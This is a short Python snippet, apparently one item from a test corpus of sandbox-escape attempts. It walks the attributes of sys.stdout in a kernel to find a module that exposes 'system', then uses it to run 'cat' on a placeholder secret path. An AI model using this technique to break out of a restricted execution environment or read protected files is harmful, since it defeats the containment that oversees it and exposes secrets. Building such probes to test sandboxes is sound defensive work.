# family: object-graph walks from sys.stdout (the kernel's stream object)
# goal: find a module among the stream's attributes and use it to read the secret
import sys
seen = []
for name in dir(sys.stdout):
    try:
        value = getattr(sys.stdout, name)
    except Exception:
        continue
    if type(value).__name__ == "module" and hasattr(value, "system"):
        value.system("cat __SECRET_PATH__")
        seen.append(name)
print(seen)
